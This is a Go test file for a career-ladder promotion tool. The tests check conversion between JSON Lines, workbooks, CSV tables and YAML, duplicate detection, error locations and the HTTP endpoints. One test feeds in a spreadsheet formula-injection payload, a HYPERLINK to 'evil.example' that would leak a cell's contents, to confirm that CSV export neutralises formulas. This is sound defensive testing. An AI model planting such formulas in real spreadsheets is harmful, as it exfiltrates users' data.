package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// The example people of examples/cycle in their three forms.
var cycleForms = []string{
	"../../examples/cycle/people.jsonl",
	"../../examples/cycle/people.xlsx",
	"../../examples/cycle/tables",
}

// TestExampleFormsAgree: the cycle, the summary and the payroll sheet are
// byte for byte the same from each form of the example people, and the
// shipped workbook and tables are what convert makes of the JSON Lines.
func TestExampleFormsAgree(t *testing.T) {
	for _, args := range [][]string{
		{"cycle", "--by", "2027-05-20"},
		{"cycle", "--format", "json"},
		{"evaluate", "--summary", "--format", "csv"},
		{"evaluate", "--format", "jsonl"},
		{"referrals", "--due", "2026-06", "--format", "csv"},
		{"referrals", "--due", "2026-06", "--format", "json"},
	} {
		var want result
		for i, form := range cycleForms {
			got := runLadder(t, "", append(append([]string{}, args...), "--at", at, form)...)
			require.Equal(t, exitOK, got.code, "%v %s: %s", args, form, got.stderr)
			require.Empty(t, got.stderr)
			if i == 0 {
				want = got
				continue
			}
			w, g := want.stdout, got.stdout
			if slices.Contains(args, "--summary") { // its first column names the source: file:line, workbook:row, folder:row
				w, g = dropFirstColumn(w), dropFirstColumn(g)
			}
			assert.Equal(t, w, g, "%v from %s", args, form)
		}
	}
	r := runLadder(t, "", "evaluate", "--at", at, "--summary", "--format", "csv", cycleForms[2])
	assert.Contains(t, r.stdout, "\n"+filepath.Join(cycleForms[2], "people.csv")+":2,mia-hoffmann,", "a row's source is its row in people.csv")
	dir := t.TempDir()
	for _, to := range []string{"xlsx", "csv"} {
		out := filepath.Join(dir, "p."+to)
		r := runLadder(t, "", "convert", "--to", to, cycleForms[0], out)
		require.Equal(t, exitOK, r.code, r.stderr)
		ref := cycleForms[1]
		if to == "csv" {
			ref = cycleForms[2]
			for _, name := range []string{"people", "history", "assessments", "panel", "nominations", "waivers", "mentees", "breaks"} {
				assert.Equal(t, readFile(t, filepath.Join(ref, name+".csv")), readFile(t, filepath.Join(out, name+".csv")), name)
			}
			continue
		}
		assert.Equal(t, readFile(t, ref), readFile(t, out), "convert writes the same workbook for the same people")
	}
}

func dropFirstColumn(csv string) string {
	lines := strings.Split(csv, "\n")
	for i, l := range lines {
		_, lines[i], _ = strings.Cut(l, ",")
	}
	return strings.Join(lines, "\n")
}

// TestConvertRoundTrips: JSON Lines → xlsx → JSON Lines, → CSV tables →
// JSON Lines and → YAML → JSON Lines give the same people.
func TestConvertRoundTrips(t *testing.T) {
	dir := t.TempDir()
	direct := runLadder(t, "", "convert", "--to", "jsonl", cycleForms[0], "-")
	require.Equal(t, exitOK, direct.code, direct.stderr)
	require.Equal(t, 16, strings.Count(direct.stdout, "\n"))
	for _, to := range []string{"xlsx", "csv", "yaml"} {
		mid := filepath.Join(dir, "mid."+to)
		r := runLadder(t, "", "convert", "--to", to, cycleForms[0], mid)
		require.Equal(t, exitOK, r.code, r.stderr)
		back := runLadder(t, "", "convert", "--to", "jsonl", mid, "-")
		require.Equal(t, exitOK, back.code, back.stderr)
		assert.Equal(t, direct.stdout, back.stdout, "through %s", to)
	}
	r := runLadder(t, "", "convert", "--to", "csv", cycleForms[0], filepath.Join(dir, "mid.csv"))
	assert.Equal(t, exitInvalid, r.code, "an existing table is not overwritten")
	assert.Contains(t, r.stderr, "already exists (--force overwrites it)")
	assert.Equal(t, exitUsage, runLadder(t, "", "convert", "--to", "pdf", cycleForms[0], "x").code)

	// A flat CSV records what it has no place for, and so do the tables
	// made of it: once each, whichever tables are there.
	flat := filepath.Join(dir, "flat")
	r = runLadder(t, "", "convert", "--to", "csv", "../../examples/cycle/people.csv", flat)
	require.Equal(t, exitOK, r.code, r.stderr)
	require.NoError(t, os.Remove(filepath.Join(flat, "mentees.csv")))
	r = runLadder(t, "", "convert", "--to", "jsonl", flat, "-")
	require.Equal(t, exitOK, r.code, r.stderr)
	assert.Equal(t, 16, strings.Count(r.stdout, `"unrecorded":["history","assessments","nominations","waivers","mentees","mentor","breaks"]}`), r.stdout)
	assert.Equal(t, exitUsage, runLadder(t, "", "convert", cycleForms[0], "x").code)
}

// TestTemplateFilledIn: the template, filled in as a program (or a person)
// would, reads back and evaluates with no other reading.
func TestTemplateFilledIn(t *testing.T) {
	r := runLadder(t, "", "template", "--level", "L4", "--format", "xlsx")
	require.Equal(t, exitOK, r.code, r.stderr)
	f, err := excelize.OpenReader(strings.NewReader(r.stdout))
	require.NoError(t, err)
	defer f.Close()
	assert.Equal(t, []string{"people", "history", "assessments", "panel", "nominations", "waivers", "mentees", "breaks", "columns"}, f.GetSheetList())
	header, err := f.GetRows("people")
	require.NoError(t, err)
	require.Len(t, header, 1)
	assert.Contains(t, header[0], "metrics.product_decisions_adopted", "a metric L4's checks read")
	assert.NotContains(t, header[0], "metrics.products_owned", "an L7 metric")
	dvs, err := f.GetDataValidations("people")
	require.NoError(t, err)
	assert.NotEmpty(t, dvs, "drop-down lists for levels and booleans")
	note := ""
	comments, err := f.GetComments("people")
	require.NoError(t, err)
	for _, c := range comments {
		note += c.Text
		for _, p := range c.Paragraph {
			note += p.Text
		}
	}
	assert.Contains(t, note, "(int", "a metric's note gives its type")

	col := func(sheet, name string) string {
		rows, err := f.GetRows(sheet)
		require.NoError(t, err)
		for i, h := range rows[0] {
			if h == name {
				c, _ := excelize.CoordinatesToCellName(i+1, 2)
				return c
			}
		}
		t.Fatalf("no column %s in %s", name, sheet)
		return ""
	}
	set := func(sheet, name string, v any) { require.NoError(t, f.SetCellValue(sheet, col(sheet, name), v)) }
	set("people", "id", "pan")
	set("people", "level", "L4")
	set("people", "level_since", time.Date(2024, 1, 8, 0, 0, 0, 0, time.UTC))
	set("people", "joined", time.Date(2022, 1, 3, 0, 0, 0, 0, time.UTC))
	for name, v := range map[string]any{"product_decisions_adopted": 3, "feature_instrumentation_rate": 1.0, "data_driven_kills": 1,
		"mentee_improving": true, "helpful_review_citations": 2, "client_trust": true, "client_retention": "yes"} {
		set("people", "metrics."+name, v)
	}
	r = runLadder(t, "", "show", "L4", "--format", "json")
	require.Equal(t, exitOK, r.code)
	for i, a := range []string{"live-scope-exercise", "mentee-outcome", "product-decision-portfolio", "team-building-simulation"} {
		require.Contains(t, r.stdout, a)
		for j, v := range []any{"pan", a, "passed", time.Date(2026, 10, 5+i, 0, 0, 0, 0, time.UTC)} {
			c, _ := excelize.CoordinatesToCellName(j+1, i+2)
			require.NoError(t, f.SetCellValue("assessments", c, v))
		}
	}
	for j, v := range []any{"pan", "kid", "L2", "L1", time.Date(2024, 3, 4, 0, 0, 0, 0, time.UTC)} {
		c, _ := excelize.CoordinatesToCellName(j+1, 2)
		require.NoError(t, f.SetCellValue("mentees", c, v))
	}
	filled := filepath.Join(t.TempDir(), "people.xlsx")
	require.NoError(t, f.SaveAs(filled))

	r = runLadder(t, "", "evaluate", "--at", "2026-12-01", "--format", "json", filled)
	require.Equal(t, exitOK, r.code, r.stderr)
	assert.Contains(t, r.stdout, `"verdict": "eligible"`)
	assert.Empty(t, r.stderr, "every table is in the template: nothing is unrecorded")

	csvDir := filepath.Join(t.TempDir(), "tables")
	r = runLadder(t, "", "template", "--format", "csv", csvDir)
	require.Equal(t, exitOK, r.code, r.stderr)
	assert.FileExists(t, filepath.Join(csvDir, "mentees.csv"))
}

// TestDuplicatesCountedOnce: a person listed twice is an error at the later
// record, naming the first; the cycle counts them once and the payroll
// sheet pays them once.
func TestDuplicatesCountedOnce(t *testing.T) {
	maya := readFile(t, "../../examples/cycle/people.jsonl")
	var line string
	for _, l := range strings.Split(maya, "\n") {
		if strings.Contains(l, `"id":"maya"`) {
			line = l
		}
	}
	require.NotEmpty(t, line)
	twice := line + "\n" + line + "\n"

	r := runLadder(t, twice, "referrals", "--at", at, "--due", "2026-06", "--format", "csv", "-")
	assert.Equal(t, exitInvalid, r.code)
	assert.Regexp(t, `^<stdin>:2:\d+: id: person "maya" appears again: first at line 1\n$`, r.stderr)
	assert.Equal(t, 1, strings.Count(r.stdout, "maya,"), r.stdout)

	r = runLadder(t, twice, "cycle", "--at", at, "--format", "json", "-")
	assert.Equal(t, exitInvalid, r.code)
	assert.Contains(t, r.stdout, `"invalid": 1,`)
	assert.Contains(t, r.stdout, `"people": 1,`, "L7 counts Maya once")

	dir := t.TempDir()
	for _, name := range []string{"a.jsonl", "b.jsonl"} {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(line+"\n"), 0o644))
	}
	r = runLadder(t, "", "referrals", "--at", at, "--due", "2026-06", "--format", "csv", dir)
	assert.Equal(t, exitInvalid, r.code)
	assert.Contains(t, r.stderr, filepath.Join(dir, "b.jsonl")+":1: id: person \"maya\" appears again: first read in "+filepath.Join(dir, "a.jsonl")+":1")
	assert.Equal(t, 1, strings.Count(r.stdout, "maya,"), r.stdout)
}

// TestFlatCSVSaysWhatItLacks: a flat CSV has no place for assessments and
// the rest; the command says so once, and a payroll sheet from it is an
// error, not an empty sheet.
func TestFlatCSVSaysWhatItLacks(t *testing.T) {
	r := runLadder(t, "", "cycle", "--at", at, "../../examples/cycle/people.csv")
	assert.Equal(t, exitOK, r.code)
	assert.Equal(t, 1, strings.Count(r.stderr, "\n"), r.stderr)
	assert.Contains(t, r.stderr, "people.csv: warning: not recorded in this input: history, assessments, nominations, waivers, mentees, mentor, breaks;")
	unmet, unknown, _ := strings.Cut(r.stdout, "Unknown checks")
	assert.NotContains(t, unmet, "Product strategy presentation", "what is not recorded is never a no")
	assert.Contains(t, unknown, "Product strategy presentation")

	r = runLadder(t, "", "referrals", "--at", at, "--due", "2026-06", "--format", "csv", "../../examples/cycle/people.csv")
	assert.Equal(t, exitInvalid, r.code)
	assert.Contains(t, r.stderr, "mentees are not recorded in this input")
}

// TestTableProblemsWhereAnAnalystLooks: problems in a workbook name the
// sheet, row and column as Excel shows them; in CSV tables the file.
func TestTableProblemsWhereAnAnalystLooks(t *testing.T) {
	f := excelize.NewFile()
	defer f.Close()
	require.NoError(t, f.SetSheetName("Sheet1", "people"))
	for i, row := range [][]any{
		{"id", "name", "level", "level_since", "metrics.feature_hit_rate"},
		{"maya", "Maya Chen", "L7", "2022-09-01", 74},
		{"rui", "Rui", "L77", "09/01/2022", 0.7},
	} {
		c, _ := excelize.CoordinatesToCellName(1, i+1)
		require.NoError(t, f.SetSheetRow("people", c, &row))
	}
	name := filepath.Join(t.TempDir(), "people.xlsx")
	require.NoError(t, f.SaveAs(name))
	r := runLadder(t, "", "evaluate", "--at", at, "--summary", name)
	assert.Equal(t, exitInvalid, r.code)
	assert.Contains(t, r.stderr, name+": sheet people, row 2, column E (metrics.feature_hit_rate): want percent between 0 and 1, got 74")
	assert.Contains(t, r.stderr, name+": sheet people, row 3, column D (level_since): want a date as YYYY-MM-DD, got \"09/01/2022\"")
	assert.Contains(t, r.stderr, name+": sheet people, row 3, column C (level): unknown level \"L77\"")
}

// TestServerTakesWorkbooks: POST /v1/cycle and /v1/evaluate take a workbook
// as they take JSON Lines, with the same answer; a flat CSV's cycle says
// what it has no place for in warnings; a problem in a sheet names it.
func TestServerTakesWorkbooks(t *testing.T) {
	s := testServer(t)
	jsonl := do(s, "POST", "/v1/cycle", "application/x-ndjson", strings.NewReader(readFile(t, cycleForms[0])))
	require.Equal(t, 200, jsonl.Code, jsonl.Body.String())
	xlsx := do(s, "POST", "/v1/cycle", xlsxType, strings.NewReader(readFile(t, cycleForms[1])))
	require.Equal(t, 200, xlsx.Code, xlsx.Body.String())
	assert.Equal(t, jsonl.Body.String(), xlsx.Body.String())
	assert.NotContains(t, xlsx.Body.String(), "warnings")

	flat := do(s, "POST", "/v1/cycle", "text/csv", strings.NewReader(readFile(t, "../../examples/cycle/people.csv")))
	require.Equal(t, 200, flat.Code, flat.Body.String())
	assert.Contains(t, flat.Body.String(), `"warnings": [`)
	assert.Contains(t, flat.Body.String(), "not recorded in the input of 16 people: history, assessments")

	f := excelize.NewFile()
	defer f.Close()
	require.NoError(t, f.SetSheetName("Sheet1", "people"))
	for i, row := range [][]any{{"id", "level", "level_since"}, {"rui", "L7", "09/01/2022"}} {
		c, _ := excelize.CoordinatesToCellName(1, i+1)
		require.NoError(t, f.SetSheetRow("people", c, &row))
	}
	var buf strings.Builder
	require.NoError(t, f.Write(&buf))
	bad := do(s, "POST", "/v1/evaluate", xlsxType, strings.NewReader(buf.String()))
	require.Equal(t, 200, bad.Code)
	assert.Contains(t, bad.Body.String(), `"table":"people","line":2,"column":3,"header":"level_since"`)
}

// TestConvertNeutralisesFormulas: the CSV tables convert writes hold no
// live formula, and read back to the same names.
func TestConvertNeutralisesFormulas(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "in.jsonl")
	var people strings.Builder
	for i, name := range []string{`=HYPERLINK("http://evil.example/?"&B2,"pay")`, "'=already quoted", "-x", "'plain", "+1", "@sum", "''"} {
		people.WriteString(`{"id": "p` + string(rune('a'+i)) + `", "name": ` + strconvQuote(name) + `, "level": "L1"}` + "\n")
	}
	require.NoError(t, os.WriteFile(in, []byte(people.String()), 0o644))
	out := filepath.Join(dir, "tables")
	r := runLadder(t, "", "convert", "--to", "csv", in, out)
	require.Equal(t, exitOK, r.code, r.stderr)
	csvText := readFile(t, filepath.Join(out, "people.csv"))
	assert.Contains(t, csvText, `"'=HYPERLINK(""http://evil.example/?""&B2,""pay"")"`)
	assert.Contains(t, csvText, `''=already quoted`)
	assert.Contains(t, csvText, `,'-x,`)
	assert.Contains(t, csvText, `,'plain,`)
	assert.Contains(t, csvText, `,'@sum,`)
	direct := runLadder(t, "", "convert", "--to", "jsonl", in, "-")
	back := runLadder(t, "", "convert", "--to", "jsonl", out, "-")
	require.Equal(t, exitOK, back.code, back.stderr)
	assert.Equal(t, direct.stdout, back.stdout)
}

func strconvQuote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
